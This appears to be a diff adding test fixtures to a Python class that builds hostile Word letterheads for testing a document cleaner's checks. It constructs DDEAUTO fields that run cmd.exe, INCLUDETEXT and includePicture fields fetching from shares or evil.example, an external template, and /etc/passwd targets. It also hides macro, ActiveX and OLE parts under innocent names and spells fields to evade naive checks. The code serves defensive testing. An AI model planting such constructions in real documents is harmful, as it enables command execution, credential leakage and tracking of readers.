@@ -354,8 +354,77 @@ def footer_name(data: bytes) -> str:
     return "word/" + re.search(r'Target="(footer\d*\.xml)"', rels).group(1)
 
 
+HEADER_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
+SETTINGS_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"
+GLOSSARY_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.glossary+xml"
+VBA = "http://schemas.microsoft.com/office/2006/relationships"
+
+
+def _complex_field(*instructions: str, result: str = "shown") -> str:
+    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>' for text in instructions)
+    return (
+        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+        f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    )
+
+
+#: A paragraph of the fields the reports found kept: DDEAUTO and INCLUDETEXT of a share.
+HOSTILE_FIELDS = (
+    "<w:p>"
+    + _complex_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')
+    + _complex_field(' INCLUDETEXT "\\\\\\\\server\\\\share\\\\x.docx" ', result="included")
+    + "</w:p>"
+)
+
+#: The same, in every spelling that a check by exact text or by one run would miss.
+DISGUISED_FIELDS = (
+    "<w:p>"
+    + _complex_field(" DD", "EAUTO cmd ", '"/c calc"')
+    + _complex_field(" ddeauto cmd x ")
+    + _complex_field(' IncludeText "\\\\\\\\server\\\\share\\\\y.docx" ')
+    + _complex_field(" PAGE ", result="1")
+    + '<w:fldSimple w:instr=" includePicture &quot;http://evil.example/t.png&quot; \\d">'
+    "<w:r><w:t>pic</w:t></w:r></w:fldSimple>"
+    '<w:fldSimple w:instr=" NUMPAGES "><w:r><w:t>1</w:t></w:r></w:fldSimple>'
+    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
+    + _complex_field(" INCLUDETEXT x.docx ")
+    + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
+    '<mc:Choice Requires="w14"><w:r><w:t>new</w:t></w:r></mc:Choice>'
+    "<mc:Fallback>" + _complex_field(" DDE cmd x ") + "</mc:Fallback></mc:AlternateContent>"
+    "</w:p>"
+)
+
+GLOSSARY = (
+    f'<w:glossaryDocument xmlns:w="{W_NS}"><w:docParts><w:docPart><w:docPartBody>{HOSTILE_FIELDS}'
+    "</w:docPartBody></w:docPart></w:docParts></w:glossaryDocument>"
+)
+
+
+def rename_part(data: bytes, old: str, new: str, content_type: str) -> bytes:
+    """``data`` with part ``old`` renamed ``new`` (its relationships, the relationship to it and its
+    content type following), declared as ``content_type``."""
+    archive = zipfile.ZipFile(io.BytesIO(data))
+    folder, file = old.rsplit("/", 1)
+    new_file = new.rsplit("/", 1)[1]
+    replace: dict[str, bytes | None] = {old: None, new: archive.read(old)}
+    old_rels = f"{folder}/_rels/{file}.rels"
+    if old_rels in archive.namelist():
+        replace[old_rels] = None
+        replace[f"{folder}/_rels/{new_file}.rels"] = archive.read(old_rels)
+    source_rels = f"{folder}/_rels/document.xml.rels"
+    replace[source_rels] = part(data, source_rels).replace(f'Target="{file}"', f'Target="{new_file}"').encode()
+    types = re.sub(rf'<Override PartName="/{re.escape(old)}"[^>]*/>', "", part(data, "[Content_Types].xml"))
+    types = types.replace("</Types>", f'<Override PartName="/{new}" ContentType="{content_type}"/></Types>')
+    replace["[Content_Types].xml"] = types.encode()
+    return rezip(data, replace)
+
+
 class HostileLetterheads:
     """Every attack the letterhead checks exist for, each built from a clean Word letterhead."""
+
+    header_type = HEADER_TYPE
+    settings_type = SETTINGS_TYPE
 
     def __init__(self) -> None:
         self.base = word_letterhead()
@@ -513,6 +582,114 @@ class HostileLetterheads:
     def template(self) -> bytes:
         types = part(self.base, "[Content_Types].xml").replace(
             "wordprocessingml.document.main+xml", "wordprocessingml.template.main+xml"
+        )
+        return rezip(self.base, {"[Content_Types].xml": types.encode()})
+
+    # -- bypasses by part name, content type and spelling (issue 18) --------------------------
+
+    def renamed_header(self, new_name: str, content_type: str = HEADER_TYPE) -> bytes:
+        """The header moved to ``new_name`` (``word/header1.XML``, ``.bin``, no extension), its
+        content type and relationship updated, holding DDEAUTO and INCLUDETEXT fields."""
+        old = header_name(self.base)
+        header = part(self.base, old).replace("</w:hdr>", f"{HOSTILE_FIELDS}</w:hdr>")
+        return rename_part(rezip(self.base, {old: header.encode()}), old, new_name, content_type)
+
+    def renamed_settings(self, new_name: str = "word/settings.XML", content_type: str = SETTINGS_TYPE) -> bytes:
+        """The settings under another name (and type spelling), asking Word to update fields on open."""
+        settings = part(self.base, "word/settings.xml").replace(
+            "<w:defaultTabStop", '<w:updateFields w:val="true"/><w:defaultTabStop', 1
+        )
+        data = rezip(self.base, {"word/settings.xml": settings.encode()})
+        return rename_part(data, "word/settings.xml", new_name, content_type)
+
+    def mixed_case_types(self) -> bytes:
+        """Every Word content type spelled in mixed case, as Word itself accepts them."""
+        types = part(self.base, "[Content_Types].xml")
+        types = types.replace("wordprocessingml.", "WordProcessingML.").replace("+xml", "+XML")
+        types = types.replace("settings+", "Settings+").replace("header+", "Header+")
+        return rezip(self.base, {"[Content_Types].xml": types.encode()})
+
+    def disguised_fields(self) -> bytes:
+        """Fields in the footer spelled to slip past a naive check: split instructions,
+        lower and mixed case, simple fields, a field inside another, a field in a fallback."""
+        name = footer_name(self.base)
+        footer = part(self.base, name).replace("</w:ftr>", f"{HOSTILE_FIELDS}{DISGUISED_FIELDS}</w:ftr>")
+        return rezip(self.base, {name: footer.encode()})
+
+    def smuggled_parts(self) -> bytes:
+        """Macros, ActiveX, OLE, an alternate chunk, a sub-document, a glossary and custom XML
+        under innocent names, and an orphan part full of fields nothing points to."""
+        data = self.base
+        payloads = {
+            "word/media/image9.png": ("application/vnd.ms-office.vbaProject", VBA, "vbaProject", b"\xd0\xcf macros"),
+            "word/styles2.xml": ("application/vnd.ms-office.activeX+xml", R_NS, "control", b"<ax/>"),
+            "word/theme/theme9.xml": ("application/vnd.openxmlformats-officedocument.oleObject", R_NS, "oleObject",
+                                      b"\xd0\xcf ole"),
+            "word/chunk.XML": ("application/xhtml+xml", R_NS, "aFChunk", b"<html>DDEAUTO</html>"),
+            "word/glossary/document.xml": (GLOSSARY_TYPE, R_NS, "glossaryDocument", GLOSSARY.encode()),
+        }
+        for index, (name, (ctype, ns, reltype, blob)) in enumerate(payloads.items()):
+            data = rezip(data, {name: blob})
+            data = add_content_type(data, f'<Override PartName="/{name}" ContentType="{ctype}"/>')
+            target = name.removeprefix("word/")
+            data = add_relationship(data, "word/_rels/document.xml.rels", f"rIdS{index}", f"{ns}/{reltype}",
+                                    target, external=False)  # fmt: skip
+        data = add_relationship(data, "word/_rels/document.xml.rels", "rIdSub", f"{R_NS}/subDocument",
+                                "file:///c:/sub.docx", external=False)  # fmt: skip
+        body = part(data, "word/document.xml").replace(
+            "<w:sectPr",
+            f'<w:altChunk xmlns:r="{R_NS}" r:id="rIdS3"/>'
+            f'<w:p><w:subDoc xmlns:r="{R_NS}" r:id="rIdSub"/></w:p><w:sectPr',
+            1,
+        )
+        orphan = f'<w:hdr xmlns:w="{W_NS}">{HOSTILE_FIELDS}</w:hdr>'
+        return rezip(data, {"word/document.xml": body.encode(), "word/orphan.xml": orphan.encode()})
+
+    def external_targets(self) -> bytes:
+        """External relationships with the mode in other cases, internal targets that leave the
+        package, links in VML attributes and a hyperlink base on a share."""
+        data = with_relationships(self.base, "word/_rels/settings.xml.rels")
+        data = add_relationship(
+            data, "word/_rels/settings.xml.rels", "rIdT", f"{R_NS}/attachedTemplate",
+            "http://evil.example/t.dotm", external=True,
+        )  # fmt: skip
+        rels = part(data, "word/_rels/settings.xml.rels").replace('TargetMode="External"', 'TargetMode="external"')
+        data = rezip(data, {"word/_rels/settings.xml.rels": rels.encode()})
+        name = header_name(data)
+        rels_name = name.replace("word/", "word/_rels/") + ".rels"
+        data = add_relationship(data, rels_name, "rIdX", f"{R_NS}/image", "\\\\evil.example\\x.png", True)
+        rels = part(data, rels_name).replace('TargetMode="External"', 'TargetMode="EXTERNAL"')
+        rels = rels.replace(
+            "</Relationships>",
+            f'<Relationship Id="rIdUp" Type="{R_NS}/image" Target="../../../../etc/passwd"/>'
+            f'<Relationship Id="rIdAbs" Type="{R_NS}/image" Target="file:///etc/passwd"/></Relationships>',
+        )
+        vml = (
+            '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="file://evil.example/s">'
+            '<v:imagedata src="http://evil.example/track.png"/></v:shape></w:pict></w:r>'
+        )
+        header = part(data, name).replace(
+            "</w:p>",
+            f'<w:hyperlink xmlns:r="{R_NS}" r:id="rIdUp"><w:r><w:t>up</w:t></w:r></w:hyperlink>{vml}</w:p>',
+            1,
+        )
+        share = "<HyperlinkBase>\\\\evil.example\\s</HyperlinkBase>"
+        app = part(data, "docProps/app.xml").replace("<HyperlinkBase/>", share)
+        return rezip(data, {rels_name: rels.encode(), name: header.encode(), "docProps/app.xml": app.encode()})
+
+    def unknown_part(self) -> bytes:
+        """A part of a kind no letterhead needs, which the cleaner cannot judge."""
+        data = rezip(self.base, {"word/extra.dat": b"whatever"})
+        data = add_content_type(data, '<Override PartName="/word/extra.dat" ContentType="application/x-unknown"/>')
+        return add_relationship(data, "word/_rels/document.xml.rels", "rIdU", "http://example.org/rel/unknown",
+                                "extra.dat", external=False)  # fmt: skip
+
+    def mismatched_part(self) -> bytes:
+        """A header relationship whose target is declared as a macro project."""
+        name = header_name(self.base)
+        types = part(self.base, "[Content_Types].xml").replace(
+            f'PartName="/{name}" ContentType="{HEADER_TYPE}"',
+            f'PartName="/{name}" ContentType="application/vnd.ms-office.vbaProject"',
         )
         return rezip(self.base, {"[Content_Types].xml": types.encode()})
 
